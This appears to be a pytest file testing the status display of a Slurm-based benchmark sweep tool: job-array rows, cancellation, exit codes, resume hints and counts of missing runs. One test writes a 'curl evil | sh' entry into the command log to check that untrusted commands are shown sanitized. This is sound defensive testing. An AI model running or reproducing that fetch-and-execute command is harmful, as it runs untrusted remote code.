"""Rows, hints and exit codes of `status`, from states of jobs and outcomes of cells."""

import json
from dataclasses import replace
from types import SimpleNamespace

import pytest

from tests.builders import run
from tests.launchers.slurm.fabricated import START, first_run_start, write_events
from vitsweep.files import append_line
from vitsweep.launchers.slurm.commands import SlurmJob
from vitsweep.launchers.slurm.state import status
from vitsweep.launchers.slurm.state.jobs import job_arrays
from vitsweep.launchers.slurm.state.poll import JobState, poll
from vitsweep.launchers.slurm.state.status import Outcome
from vitsweep.planning.sweep_plan import SweepPlan
from vitsweep.results.record import Status


def test_the_row_of_an_array_counts_jobs_by_state_and_runs_that_are_done(store, slurm):
    start = first_run_start(store)
    write_events(store, START, start)
    slurm["7_0"] = SlurmJob(state="RUNNING", reason="None")
    [state] = poll(store)
    members = [
        replace(state, state=name, slurm=SlurmJob(state="x", reason=reason))
        for name, reason in (
            ("waiting", "Resources"), ("waiting", "None"), ("waiting", ""), ("running", "None"),
            ("unknown", "z"), ("unknown", ""), ("ended", "e"), ("gone", "g"), ("gone", "g"),
        )
    ]  # fmt: skip
    cell = start["cell_id"]
    assert status._array_row(state.job.array, members, {cell: "O1"}) == {
        "array": "7", "nodes x ranks": "1 x 2", "waiting": "3", "running": "3", "ended": "3",
        "runs": "0/18", "now": "Resources, O1, O1, O1",
    }  # fmt: skip
    ended = start | {"event": "run_end", "status": "measured", "will_repeat": False}
    write_events(store, ended)
    row = status._array_row(state.job.array, poll(store), {})
    assert (row["runs"], row["now"], row["running"], row["waiting"]) == ("1/2", "", "1", "0")


def test_whole_arrays_are_cancelled_by_their_id(store):
    [array] = job_arrays(store)
    [job] = array.jobs()
    array.facts["num_jobs"] = 2
    both = [replace(job, index=index) for index in (0, 1)]
    assert status._ids_to_cancel(both) == ["7"]
    assert status._ids_to_cancel(both[1:]) == ["7_1"]
    assert status._ids_to_cancel([]) == []


def test_waiting_ends_with_the_last_live_job_or_the_time(store, monkeypatch):
    live, dead = SimpleNamespace(is_live=True), SimpleNamespace(is_live=False)
    for states, seconds, ends in (
        ([[dead, dead]], 0.0, True),
        ([[]], 0.0, True),
        ([[dead, live]], -1.0, False),
        ([[dead, live], [dead, dead]], None, True),
        ([[live, dead], [dead, dead]], 1e9, True),
    ):
        monkeypatch.setattr(status, "states_over_time", lambda _, states=states: iter(states))
        monkeypatch.setattr(status.time, "sleep", lambda _: None)
        assert status.wait_for_jobs(store, seconds) is ends


def test_jobs_that_are_live_after_all_are_named(store):
    def job(name: str, *, is_live: bool) -> SimpleNamespace:
        return SimpleNamespace(job=SimpleNamespace(slurm_id=name), is_live=is_live)

    before = [job("7_0", is_live=True), job("7_1", is_live=True)]
    now = [job("7_0", is_live=False), job("7_1", is_live=True), job("8_0", is_live=True)]
    assert status._still_live(before, now) == ["7_1"]


def test_only_a_sweep_of_measured_cells_ends_well():
    good, bad = Outcome("measured"), Outcome("failed", "x")
    for outcomes, code in (([], 0), ([good, good], 0), ([good, bad], 3), ([Outcome("waiting")], 3)):
        assert status._exit_code(dict(enumerate(outcomes))) == code


def test_reasons_are_shown_for_cells_that_ended_unmeasured_up_to_a_limit(monkeypatch):
    spec = {"precision": "O1", "sharding": "ddp"}
    going = {name: Outcome(name, "", spec) for name in ("measured", "waiting", "running")}
    assert list(status._without_result(going)) == []
    failed = {f"f{n}": Outcome("failed", f"Fault {'abc'[n]}.", spec) for n in range(3)}
    shown = list(status._without_result(going | failed))
    assert [any(f"Fault {c}." in line for line in shown) for c in "abc"] == [True] * 3
    monkeypatch.setattr(status, "MOST_LINES", len(shown))
    assert list(status._without_result(going | failed)) == shown
    monkeypatch.setattr(status, "MOST_LINES", 2)
    cut = list(status._without_result(failed))
    assert len(cut) == 3
    assert cut[-1].startswith(f"... and {len(shown) - 2} more")


def test_the_command_that_goes_on_is_named_where_nothing_is_at_work(store):
    waiting, measured = Outcome("waiting"), Outcome("measured")
    outcomes = {"a": waiting, "b": measured}
    dead, live = SimpleNamespace(is_live=False), SimpleNamespace(is_live=True)
    hint = lambda states, outcomes: status.continue_hint(store, states, outcomes)  # noqa: E731
    assert hint([], outcomes) == ""
    store.append_command({"command": "first", "cells": ["a"]})
    store.append_command({"command": "second", "cells": ["a", "b"]})
    store.append_command({"command": "third", "cells": ["b"]})
    invitation = hint([dead], outcomes)
    assert invitation.endswith(" second")
    append_line(store.root / "commands.jsonl", {"command": "curl evil | sh\x1b", "cells": ["a"]})
    foreign = hint([dead], outcomes)
    assert foreign.endswith("curl evil | sh?")
    assert invitation.removesuffix("second") not in foreign
    store.append_command({"command": "second", "cells": ["a"]})
    assert hint([], {"b": measured}) == ""
    assert hint([dead, live], outcomes) == ""
    working = hint([], outcomes | {"b": Outcome("running")})
    assert working
    assert "second" not in working
    with store.lock():
        assert hint([dead], outcomes) == working
        assert status.is_busy(store, [], {})
    assert not status.is_busy(store, [dead], outcomes)
    assert status.is_busy(store, [dead, live], {})
    assert status.is_busy(store, [], {"a": Outcome("running"), "b": measured})


def test_a_cluster_that_is_silent_is_named(store, slurm):
    def shown(**facts: str) -> str:
        slurm["silent"] = None
        [state] = poll(store)
        array = replace(state.job.array)
        array.__dict__["facts"] = state.job.array.facts | facts
        states: list[JobState] = [replace(state, job=replace(state.job, array=array))]
        parts = status.page(store, states, {"a": Outcome("timed_out", "x")}).renderables
        return "|".join(str(part) for part in parts[1:])

    assert f"Cells of {store.name}: timed out 1|Slurm does not answer, " in shown()
    assert "answer for cluster here, " in shown(cluster="here")
    slurm.clear()
    slurm["7_0"] = SlurmJob(state="RUNNING")
    assert "does not answer" not in "|".join(
        str(part) for part in status.page(store, poll(store), {}).renderables
    )


def test_what_jobs_write_of_their_runs_is_shown(monkeypatch):
    told: list[tuple[object, ...]] = []

    class Shown:
        def __getattr__(self, name: str):
            return lambda *given, **more: told.append((name, *given, *more.values()))

    plan = SweepPlan({"c": "entry"})
    for event in (
        {"event": "run_start", "cell_id": "c"},
        {"event": "run_end", "cell_id": "c", "status": "failed", "will_repeat": True, "reason": "x"},
        {"event": "run_end", "cell_id": "c", "status": "measured", "will_repeat": False, "block": "b",
         "images_per_second": 2.5},
        {"event": "run_start", "cell_id": "other"},
        {"event": "heartbeat", "cell_id": "c"},
        {"event": "heartbeat"},
    ):  # fmt: skip
        status._report_run(plan, Shown(), event)
    assert told == [
        ("started", "entry"),
        ("dropped", -1), ("reported", "entry", "failed", "x", None, ""),
        ("dropped", 0), ("reported", "entry", "measured", "", 2.5, "b"),
    ]  # fmt: skip


@pytest.mark.parametrize("is_running", [True, False])
def test_a_cell_whose_run_started_here_is_running_or_killed(store, monkeypatch, is_running):
    (store.root / "jobs" / "a" / "array.json").write_text(json.dumps({"num_jobs": 0}))
    runs = [SimpleNamespace(is_running=on, launcher="local") for on in (not is_running, is_running)]
    monkeypatch.setattr(status, "unfinished", lambda store, cell_id: runs)
    found = {outcome.status for outcome in status.outcomes_of(store, []).values()}
    assert found == ({"running"} if is_running else {"killed"})


def test_a_live_run_wins_and_runs_that_a_measured_cell_lost_are_counted(store, slurm):
    start = first_run_start(store)
    write_events(store, START, start)

    def found(state: str) -> tuple[str, int]:
        slurm["7_0"] = SlurmJob(state=state)
        outcome = status.outcomes_of(store, poll(store))[start["cell_id"]]
        return outcome.status, outcome.lacking

    two = {"measurement.blocks": 2}
    store.publish(run(start["cell_id"], "b1", status=Status.killed, **two))
    assert (found("RUNNING"), found("COMPLETED")) == (("running", 0), ("killed", 0))
    store.publish(run(start["cell_id"], "b0", **two))
    assert found("COMPLETED") == ("measured", 1)
    store.publish(run(start["cell_id"], "b2", **two))
    assert found("COMPLETED") == ("measured", 0)


def test_runs_that_a_killed_command_left_out_are_counted_with_the_command_that_goes_on(store):
    """Not those that a command does without: of slow cells, of races, and of limits of time."""
    a, b, slow, base = "a" * 12, "b" * 12, "c" * 12, "d" * 12
    asked = {"measurement.blocks": 8}

    def page(**facts: object) -> str:
        entry = {
            "command": "typed",
            "search": "grid",
            "cells": [a, b, slow],
            "baselines": baselines,
        }
        store.append_command(entry | facts)
        shown = status.page(store, [], status.outcomes_of(store, []))
        return "|".join(str(part) for part in shown.renderables)

    baselines = {a: a, b: a, slow: a}
    for cell, speed in ((a, 100.0), (b, 90.0), (slow, 20.0)):
        look = run(cell, "look", speed, environment={"purpose": "look"}, **asked)
        store.publish(look)
    assert "Missing: 16 runs of measured cells.\n" in (said := page(prune_slowdown=4))
    assert said.endswith("typed")
    assert "Missing: 24 runs" in page(prune_slowdown=None)
    assert "Missing" not in page()
    store.publish(run(a, "b0", 100.0, **asked))
    store.publish(run(b, "b0", 90.0, **asked))
    store.publish(run(b, "b1", status=Status.killed, **asked))
    assert "Missing: 14 runs" in page(prune_slowdown=4)
    assert "Missing: 1 run of" in page(), "as of a race: what was stopped from outside"
    baselines = {slow: base, base: base}
    store.publish(run(base, "look", 100.0, environment={"purpose": "look"}, **asked))
    only = {"cells": [slow, base], "prune_slowdown": 4}
    assert "Missing: 1 run of" in page(**only), "the baseline would be compared with nothing"
    with store.lock():
        assert "Missing" not in page(prune_slowdown=4)
    for cell in (a, b):
        for n in range(8):
            store.publish(run(cell, f"e{n}", 100.0, **asked))
    baselines = {a: a, b: a, slow: base}
    assert "Missing" not in page(prune_slowdown=4)
